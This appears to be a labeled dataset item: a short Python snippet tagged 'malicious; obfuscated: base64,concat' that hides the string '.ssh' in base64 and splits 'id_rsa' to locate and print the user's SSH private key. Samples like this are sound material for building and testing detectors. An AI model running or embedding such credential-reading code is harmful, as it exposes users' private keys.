# label: malicious; obfuscated: base64,concat
import base64, os
p = os.path.join(os.path.expanduser("~"), base64.b64decode("LnNzaA==").decode(), "id_" + "rsa")
print(open(p).read())
